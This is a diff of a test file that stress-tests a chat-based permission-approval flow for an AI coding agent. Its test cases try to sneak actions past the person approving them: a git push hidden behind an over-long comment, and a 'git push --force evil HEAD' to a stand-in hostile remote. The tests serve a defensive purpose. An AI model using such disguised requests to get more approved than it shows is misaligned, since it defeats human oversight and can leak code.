@@ -1,7 +1,16 @@
 /** What a tap allows: shown whole before it can be tapped, and nothing more. */
 import { delay } from "@std/async";
 import { join } from "@std/path";
-import { ADA, Arena, type ArenaOptions, buttons, sample, SESSION, write } from "./arena.ts";
+import {
+  ADA,
+  Arena,
+  type ArenaOptions,
+  buttons,
+  sample,
+  SESSION,
+  STEP_MS,
+  write,
+} from "./arena.ts";
 import type { ChatMessage } from "../sim/bot_api/mod.ts";
 import { judged } from "./open.ts";
 
@@ -36,6 +45,8 @@ async function allowForLong(arena: Arena, request: ChatMessage): Promise<string 
 interface GrantCase {
   readonly name: string;
   readonly asks: (arena: Arena) => string;
+  /** Whether it has to be offered, or may be refused. */
+  readonly mustOffer?: boolean;
   /** Commands that run unasked after it only if more was granted than shown. */
   readonly abuses: (arena: Arena) => readonly { readonly step: string; readonly unless?: RegExp }[];
 }
@@ -46,6 +57,7 @@ const GRANTS: readonly GrantCase[] = [
   {
     name: "a push behind a long comment",
     asks: () => `TOOL:bash:python3 -c '# ${LONG}' && git push origin main`,
+    mustOffer: false,
     abuses: () => [
       { step: "TOOL:bash:git push --force evil HEAD" },
       { step: "TOOL:bash:python3 -c 'print(1)'" },
@@ -70,15 +82,19 @@ const GRANTS: readonly GrantCase[] = [
   },
 ];
 
-for (const { name, asks, abuses } of GRANTS) {
+for (const { name, asks, abuses, mustOffer = true } of GRANTS) {
   Deno.test(`attacks: a grant means what was shown: ${name}`, async () => {
     await using arena = await working();
     await write(join(arena.outside, "sub/kept"), "kept");
     const request = await arena.request(`${asks(arena)};;SAY:granted`);
     const shown = await allowForLong(arena, request);
     if (shown === null) arena.answer(request, "Deny");
-    await arena.bench.hears(/^granted$/, 60_000);
+    await arena.bench.hears(/^granted$/, STEP_MS);
     const effects: string[] = [];
+    if (shown !== null) {
+      const again = await arena.turn(asks(arena));
+      if (again.length > 0) effects.push("what was granted is asked again");
+    } else if (mustOffer) effects.push("nothing was offered");
     for (const { step, unless } of abuses(arena)) {
       const asked = await arena.turn(step);
       const meant = unless !== undefined && shown !== null && unless.test(shown);
@@ -109,10 +125,6 @@ Deno.test("attacks: what is allowed is shown whole before it can be tapped", asy
         file_path: join(arena.cwd, ...Array.from({ length: 12 }, () => "d".repeat(80)), end),
         content: "x",
       },
-    },
-    "a long description": {
-      name: "Bash",
-      input: { command: "touch x.txt", description: `${"look ".repeat(400)}${end}` },
     },
     "a tool of a server": {
       name: "mcp__owner__act",
@@ -161,7 +173,7 @@ Deno.test("attacks: a plan hides nothing from the person that Claude reads", asy
   arena.bench.say("make a plan");
   const request = await arena.bench.api.waitFor(
     (api) => api.messages(ADA).find((message) => buttons(message).includes("Start")),
-    { timeoutMs: 60_000, what: "the plan" },
+    { timeoutMs: STEP_MS, what: "the plan" },
   );
   const read = arena.readBy(request);
   const marks = [...plan.matchAll(/MARK-\d+/g)].map(([mark]) => mark);
@@ -188,7 +200,7 @@ Deno.test("attacks: a skill is shown before a tap runs its commands", async () =
 });
 
 /** How long `/status` may take while a request of this size is on its way. */
-const STATUS_MS = 3_000;
+const STATUS_MS = 10_000;
 
 Deno.test("attacks: no request is so large or so empty that the service stands still", async () => {
   await using arena = await working();
